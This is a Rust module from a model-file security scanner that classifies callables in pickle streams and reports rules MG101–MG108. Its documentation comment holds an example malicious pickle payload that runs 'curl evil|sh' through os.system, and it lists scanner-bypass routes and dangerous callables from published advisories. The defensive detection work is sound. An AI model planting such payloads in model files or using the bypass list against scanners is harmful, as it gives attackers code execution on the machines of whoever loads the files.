//! Rules over pickle streams (raw pickles, joblib dumps, `data.pkl` members of torch zips,
//! legacy torch files): every callable the symbolic stack machine
//! ([`modelgate_formats::pickle`]) finds is classified as *safe* (allowlist), *dangerous*
//! (denylist) or *unknown*, and reported once per (rule, callable) with its first offset and a
//! count. The full allowlist and denylist, with reasons, are in `docs/rules/pickle.md`.
//!
//! ## `MG101` pickle-dangerous-callable (critical)
//! **What it does:** flags a pickle that imports or calls a callable that executes code, imports
//! modules, or does file, process or network I/O (`os.system`, `builtins.eval`,
//! `subprocess.Popen`, `pickle.loads`, `torch.load`, `operator.attrgetter`, …), however it is
//! reached: `GLOBAL`, `STACK_GLOBAL` through the memo, protocol 0 `INST`, Python 2 names
//! (`__builtin__.eval`), `os.path` under its real name `posixpath`, dotted attribute paths
//! (`torch.serialization.os.system`, dunders such as `__globals__`), a module re-exporting the
//! primitive (`somepkg.system`), `getattr(__import__('os'), 'system')`,
//! `functools.partial(os.system, …)`, and `BUILD` applied to an imported module or class (which
//! sets attributes on it). Whole modules are matched as prefixes (`os.*`, `subprocess.*`):
//! `os.path.join` is harmless by itself but no checkpoint needs it, and allowing part of a
//! module invites the next bypass.
//!
//! **Why is this bad:** unpickling calls these with attacker-chosen arguments; this is how
//! every published pickle payload runs (CWE-502).
//!
//! **Example:** `cos\nsystem\n(S'curl evil|sh'\ntR.`
//!
//! **References:** CWE-502; picklescan GHSA advisories (2025) for `asyncio`, `pydoc.pipepager`,
//! `uuid._get_command_stdout`, `_osx_support`, `cProfile.runctx`, `timeit`, `pty.spawn`,
//! `lib2to3`, `idlelib`, `bdb`, `trace`, `doctest`, `code`, `distutils`, `ensurepip`, `venv`,
//! `zipimport`, `torch.hub`, `torch.jit`, `torch.load`, `numpy.load`,
//! `numpy.testing._private.utils.runstring`, `operator`, `functools`.
//!
//! ## `MG102` pickle-unknown-callable-invoked (high)
//! **What it does:** flags an unknown callable the pickle *calls* with arguments (`REDUCE`,
//! `INST`, `OBJ`, or a helper that calls its argument such as
//! `torch._tensor._rebuild_from_type_v2`), and classes safe only to rebuild
//! (`torch.nn.modules.*`) when they are called instead.
//! **Why is this bad:** the callable runs with pickle-chosen arguments at load; we cannot tell
//! what it does. **Example:** `cmylib\nsetup\n(S'x'\ntR.` **References:** CWE-502.
//!
//! ## `MG103` pickle-unknown-class-rebuilt (medium / low)
//! **What it does:** medium for an unknown class rebuilt from state (`NEWOBJ`, `NEWOBJ_EX`,
//! `BUILD`, or the class argument of `copyreg._reconstructor` / `copyreg.__newobj__` /
//! NumPy `_reconstruct`) and for known library constructors that only rebuild values
//! (scikit-learn's `Tree`, Cython `__pyx_unpickle_*`); low for an unknown global that is only
//! imported or passed as a value (importing runs the module's import-time code, but nothing
//! is called). **Why is this bad:** the class's `__setstate__` runs on load.
//! **Example:** scikit-learn estimators in joblib files. **References:** CWE-502.
//!
//! ## `MG104` pickle-malformed (high), `MG105` pickle-trailing-data (low / info)
//! **What it does:** MG104 names the offset where the stream stops making sense (unknown
//! opcode, truncation, stack underflow, memo miss, bad argument, an opcode crossing its frame).
//! MG105 reports bytes after the last `STOP` that are not another pickle; the raw storage data
//! of a legacy `torch.save` file is reported at `info` when its layout matches exactly.
//! **Why is this bad:** loaders react to malformed streams differently from scanners, and data
//! after `STOP` is invisible to pickle-only tools. **References:** CWE-20.
//!
//! ## `MG106` pickle-nested-pickle (critical / high / low)
//! **What it does:** a constant bytes/str value that is itself a complete pickle is scanned
//! recursively (findings appear under member `<embedded pickle @0x…>`). Critical when the outer
//! pickle passes it to a loader (`pickle.loads`, `torch.load`, …); high when it calls or
//! imports anything; low for pure data. **References:** CWE-502.
//!
//! ## `MG107` pickle-unresolved-callable, `MG108` pickle-extension-code (high)
//! **What it does:** MG107 flags callables built from non-constant values (a `STACK_GLOBAL`
//! whose operands come from a call, calling the result of an unknown call); MG108 flags
//! `EXT1/2/4`, whose meaning depends on the loading process's `copyreg` registry.
//! **References:** CWE-502.

mod allowlist;
mod classify;
mod denylist;

use std::collections::BTreeMap;
use std::fmt::Write as _;

use modelgate_core::{FileFormat, Finding, Limits, RuleId, Severity};
use modelgate_formats::ByteSource;
use modelgate_formats::pickle::{self, Analysis, CallSite, Options, Target, Usage};

pub use allowlist::Role;
pub use classify::{Class, canonical, classify, is_loader, role};

use crate::Ctx;

/// Scans a pickle stream (raw pickle, joblib dump, archive member).
pub fn scan(ctx: &mut Ctx<'_>, src: &dyn ByteSource) {
    let limits = ctx.limits;
    let analysis = {
        let ctx_ref: &Ctx<'_> = ctx;
        let stop = || ctx_ref.out_of_time();
        let options = Options {
            should_stop: Some(&stop),
        };
        pickle::analyze_source(src, limits, &options)
    };
    report(ctx, &analysis);
}

/// How a site uses its target, after helpers are taken into account.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Effect {
    Referenced,
    Rebuilt,
    Invoked,
}

/// The finding one call site yields, before aggregation.
struct Verdict {
    rule: RuleId,
    severity: Severity,
    subject: String,
    why: String,
}

fn effect(site: &CallSite) -> Effect {
    match site.usage {
        Usage::Reduce | Usage::Inst | Usage::Obj => Effect::Invoked,
        Usage::NewObj | Usage::NewObjEx | Usage::Build => Effect::Rebuilt,
        Usage::Import | Usage::Ext | Usage::BuildGlobal => Effect::Referenced,
        Usage::Argument => match &site.via {
            Some(Target::Global { module, name }) => {
                let (m, n) = canonical(module, name);
                match role(&m, &n) {
                    Some(Role::Rebuilds) => Effect::Rebuilt,
                    Some(Role::Calls) => Effect::Invoked,
                    Some(Role::Wraps) | None => Effect::Referenced,
                }
            }
            _ => Effect::Referenced,
        },
    }
}

/// Classifies one site; `None` when it deserves no finding.
fn verdict(site: &CallSite) -> Option<Verdict> {
    let (module, name) = match &site.target {
        Target::Ext(code) => {
            return Some(Verdict {
                rule: RuleId::PickleExtensionCode,
                severity: Severity::High,
                subject: format!("EXT {code}"),
                why:
                    "the copyreg extension registry of the loading process decides what this loads"
                        .into(),
            });
        }
        Target::Unresolved(why) => {
            return Some(Verdict {
                rule: RuleId::PickleUnresolvedCallable,
                severity: Severity::High,
                subject: "<unresolved>".into(),
                why: why.clone(),
            });
        }
        Target::Global { module, name } => canonical(module, name),
    };
    let subject = format!("{module}.{name}");
    let class = classify(&module, &name);
    if site.usage == Usage::BuildGlobal {
        return Some(Verdict {
            rule: RuleId::PickleDangerousCallable,
            severity: Severity::Critical,
            subject,
            why: "BUILD applied to an imported module or class sets attributes on it (monkey-patching the loader)".into(),
        });
    }
    let eff = effect(site);
    let (rule, severity, why) = match class {
        Class::Safe => return None,
        Class::Dangerous(why) => (RuleId::PickleDangerousCallable, Severity::Critical, why),
        Class::DangerousWhenCalled(why) => {
            if eff != Effect::Invoked {
                return None;
            }
            (RuleId::PickleDangerousCallable, Severity::Critical, why)
        }
        Class::RebuildSafe => {
            if eff != Effect::Invoked {
                return None;
            }
            (
                RuleId::PickleUnknownCallableInvoked,
                Severity::High,
                "a class allowed only when rebuilt from state is called with arguments".into(),
            )
        }
        Class::LibraryRebuilder => {
            if eff == Effect::Referenced {
                return None;
            }
            (
                RuleId::PickleUnknownClassRebuilt,
                Severity::Medium,
                "a library constructor that rebuilds a value from saved state".into(),
            )
        }
        Class::Unknown(note) => {
            let note = note.map(|n| format!(" ({n})")).unwrap_or_default();
            match eff {
                Effect::Invoked if looks_like_enum_lookup(site, &name) => (
                    RuleId::PickleUnknownClassRebuilt,
                    Severity::Medium,
                    format!(
                        "not on the allowlist; called with one constant, the shape of an Enum member lookup (`Cls(value)`){note}"
                    ),
                ),
                Effect::Invoked => (
                    RuleId::PickleUnknownCallableInvoked,
                    Severity::High,
                    format!("not on the allowlist and called with pickle-chosen arguments{note}"),
                ),
                Effect::Rebuilt => (
                    RuleId::PickleUnknownClassRebuilt,
                    Severity::Medium,
                    format!(
                        "not on the allowlist; rebuilt from saved state, so its __setstate__ runs{note}"
                    ),
                ),
                Effect::Referenced => (
                    RuleId::PickleUnknownClassRebuilt,
                    Severity::Low,
                    format!("not on the allowlist; only imported, never called{note}"),
                ),
            }
        }
    };
    Some(Verdict {
        rule,
        severity,
        subject,
        why,
    })
}

/// `Enum` members pickle as `Cls(value)`: a `REDUCE` of a `CamelCase` class with one constant
/// scalar. Unknown callables of that shape are reported at medium instead of high, so that
/// checkpoints carrying enum-typed settings (Hugging Face `training_args.bin`) do not fail the
/// gate; a function named like a class and called with one string is the residual risk.
fn looks_like_enum_lookup(site: &CallSite, name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name);
    site.usage == Usage::Reduce
        && site.via.is_none()
        && site.single_constant_arg
        && last.starts_with(|c: char| c.is_ascii_uppercase())
        && last.chars().any(|c| c.is_ascii_lowercase())
}

fn describe_usage(site: &CallSite) -> String {
    let mut text = site.usage.describe().to_owned();
    if let Some(via) = &site.via {
        let _ = match site.usage {
            Usage::Argument => write!(text, " to {via}"),
            _ => write!(text, " via {via}"),
        };
    }
    text
}

struct Aggregate {
    rule: RuleId,
    severity: Severity,
    offset: u64,
    usages: Vec<(String, u64)>,
    why: String,
    written: Vec<String>,
}

/// Turns an analysis into findings on `ctx`.
pub(crate) fn report(ctx: &mut Ctx<'_>, analysis: &Analysis) {
    if analysis.joblib.is_some() {
        ctx.refine_format(FileFormat::Joblib);
    }
    // One finding per callable: its worst usage decides the rule and severity.
    let mut groups: BTreeMap<String, Aggregate> = BTreeMap::new();
    for site in &analysis.calls {
        let Some(v) = verdict(site) else { continue };
        let written = match &site.target {
            Target::Global { module, name } => format!("{module} {name}"),
            other => other.to_string(),
        };
        let usage = describe_usage(site);
        let entry = groups.entry(v.subject).or_insert_with(|| Aggregate {
            rule: v.rule,
            severity: v.severity,
            offset: site.offset,
            usages: Vec::new(),
            why: v.why.clone(),
            written: Vec::new(),
        });
        if v.severity > entry.severity {
            entry.rule = v.rule;
            entry.severity = v.severity;
            entry.why = v.why;
        }
        entry.offset = entry.offset.min(site.offset);
        if let Some(u) = entry.usages.iter_mut().find(|(u, _)| *u == usage) {
            u.1 = u.1.saturating_add(site.count);
        } else if entry.usages.len() < 6 {
            entry.usages.push((usage, site.count));
        }
        if !entry.written.contains(&written) && entry.written.len() < 3 {
            entry.written.push(written);
        }
    }
    let mut ordered: Vec<_> = groups.into_iter().collect();
    ordered.sort_by_key(|(_, a)| a.offset);
    for (subject, agg) in ordered {
        let rule = agg.rule;
        let usages: Vec<String> = agg
            .usages
            .iter()
            .map(|(u, n)| {
                if *n == 1 {
                    u.clone()
                } else {
                    format!("{u} ×{n}")
                }
            })
            .collect();
        let message = format!(
            "`{subject}` is {} (first at offset {:#x}): {}",
            usages.join(", "),
            agg.offset,
            agg.why,
        );
        let finding = Finding::new(rule, agg.severity, ctx.at(agg.offset), message)
            .with_subject(subject)
            .with_evidence(agg.written.join("; "));
        ctx.report(finding);
    }
    report_embedded(ctx, analysis);
    report_end(ctx, analysis);
}

fn report_embedded(ctx: &mut Ctx<'_>, analysis: &Analysis) {
    for e in &analysis.embedded {
        let loader = e.consumers.iter().find_map(|t| match t {
            Target::Global { module, name } => {
                let (m, n) = canonical(module, name);
                is_loader(&m, &n).then(|| format!("{m}.{n}"))
            }
            _ => None,
        });
        let inner = pickle::analyze(e.data.as_slice(), ctx.limits);
        let active = !inner.calls.is_empty() || inner.persistent_id_count > 0;
        let (severity, what) = match (&loader, active) {
            (Some(l), _) => (
                Severity::Critical,
                format!("is passed to `{l}`, which unpickles it"),
            ),
            (None, true) => (
                Severity::High,
                "imports or calls callables of its own".to_owned(),
            ),
            (None, false) => (Severity::Low, "holds only data".to_owned()),
        };
        let member = format!("<embedded pickle @{:#x}>", e.offset);
        let value = if e.joblib_array_data {
            "joblib array data (read as data by joblib.load, run as opcodes by a plain pickle.load)"
        } else {
            "constant"
        };
        let message = format!(
            "the {}-byte {value} at offset {:#x} is itself a pickle and {what}; its findings are listed under `{member}`",
            e.data.len(),
            e.offset,
        );
        let mut finding = Finding::new(
            RuleId::PickleNestedPickle,
            severity,
            ctx.at(e.offset),
            message,
        );
        if let Some(l) = loader {
            finding = finding.with_subject(l);
        }
        ctx.report(finding);
        crate::scan_bytes(ctx, &member, &e.data);
    }
}

fn report_end(ctx: &mut Ctx<'_>, analysis: &Analysis) {
    if let Some(e) = &analysis.error {
        let message = format!(
            "the pickle stream is malformed at offset {:#x}: {}; everything before it was analysed, nothing after",
            e.offset, e.kind,
        );
        ctx.report(Finding::of(
            RuleId::PickleMalformed,
            ctx.at(e.offset),
            message,
        ));
    }
    if let Some(e) = &analysis.limit {
        ctx.limit_exceeded(Some(e.offset), format!("pickle {}", e.kind));
    }
    if let Some(l) = &analysis.legacy_torch {
        let (severity, how) = if l.exact {
            (
                Severity::Info,
                "matches the storage keys and element sizes exactly",
            )
        } else {
            (
                Severity::Low,
                "could not be matched to the storage keys exactly",
            )
        };
        let message = format!(
            "{} bytes of legacy torch.save storage data for {} storage(s) follow the pickles at offset {:#x}; the layout {how}. torch.load reads it as raw tensor data, never as a pickle.",
            l.bytes, l.storages, l.offset
        );
        ctx.report(Finding::new(
            RuleId::PickleTrailingData,
            severity,
            ctx.at(l.offset),
            message,
        ));
    }
    if let Some(t) = &analysis.trailing {
        let message = format!(
            "{} bytes follow the last pickle's STOP at offset {:#x} and are not another pickle",
            t.len, t.offset,
        );
        ctx.report(Finding::of(
            RuleId::PickleTrailingData,
            ctx.at(t.offset),
            message,
        ));
    }
}

/// Explains a pickle stream for `modelgate pickle disasm` and `modelgate scan --explain`: the
/// opcode listing, the pseudo-Python, and the classification of every callable.
pub fn explain(src: &dyn ByteSource, limits: &Limits) -> String {
    let explained = pickle::explain_source(src, limits);
    let mut out = String::new();
    out.push_str("== opcodes ==\n");
    out.push_str(&explained.listing);
    out.push_str("\n== pseudo-Python (nothing was executed) ==\n");
    out.push_str(&explained.code);
    out.push_str("\n== callables ==\n");
    let a = &explained.analysis;
    if a.calls.is_empty() {
        out.push_str("(none)\n");
    }
    for site in &a.calls {
        let class = match &site.target {
            Target::Global { module, name } => {
                let (m, n) = canonical(module, name);
                let c = classify(&m, &n);
                let detail = match &c {
                    Class::Dangerous(why) | Class::DangerousWhenCalled(why) => format!(": {why}"),
                    Class::Unknown(Some(note)) => format!(": {note}"),
                    _ => String::new(),
                };
                format!("{}{detail}", c.label())
            }
            Target::Unresolved(_) => "unresolved".into(),
            Target::Ext(_) => "extension code".into(),
        };
        let outcome = verdict(site).map_or_else(
            || "no finding".to_owned(),
            |v| format!("{} {} ({})", v.rule.code(), v.severity, v.rule.name()),
        );
        let _ = writeln!(
            out,
            "{:#010x}  {:<28} {}  [{}]  ×{}  -> {}",
            site.offset,
            describe_usage(site),
            modelgate_core::sanitize_evidence(&site.target.to_string()),
            class,
            site.count,
            outcome
        );
    }
    if a.persistent_id_count > 0 {
        let _ = writeln!(out, "persistent ids: {}", a.persistent_id_count);
    }
    for e in &a.embedded {
        let consumers: Vec<String> = e.consumers.iter().map(ToString::to_string).collect();
        let _ = writeln!(
            out,
            "embedded pickle at {:#x}: {} bytes, passed to [{}]",
            e.offset,
            e.data.len(),
            consumers.join(", ")
        );
    }
    out
}

#[cfg(test)]
mod tests;
